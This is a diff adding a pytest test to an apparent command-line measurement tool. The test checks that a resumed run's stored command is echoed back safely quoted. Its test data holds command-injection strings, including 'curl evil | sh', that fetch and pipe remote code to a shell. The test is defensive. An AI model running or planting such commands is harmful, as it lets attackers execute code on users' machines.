@@ -350,6 +350,28 @@ def test_escape_sequences_of_an_older_runs_command_are_not_repeated(stopped: Pat
     assert str(caught.value).endswith("x" * 400)  # whole, to be given again
 
 
+@pytest.mark.parametrize(
+    ("command", "said"),
+    [
+        (
+            "rackrate measure --url http://a; curl evil | sh",
+            "measure anew: rackrate measure --url 'http://a;' curl evil '|' sh",
+        ),
+        ("curl b | sh", "measure anew"),
+        ("rackrate measure --url 'a", "measure anew"),
+    ],
+)
+def test_an_older_runs_command_is_repeated_as_words_alone(
+    stopped: Path, context: Context, command: str, said: str
+) -> None:
+    header = json.loads((stopped / HEADER).read_text()) | {"format": 1, "command": command}
+    del header["request"]
+    (stopped / HEADER).write_text(json.dumps(header))
+    with pytest.raises(RunError) as caught:
+        resume(ResumeRequest(stopped), context)
+    assert str(caught.value).endswith(said)
+
+
 def test_a_key_is_never_in_a_run(server: ScriptedServer, tmp_path: Path, context: Context) -> None:
     keyed = replace(context, secret={"MY_KEY": "top-secret"}.get)
     measure(short(server, tmp_path / "run", key_env="MY_KEY"), keyed)
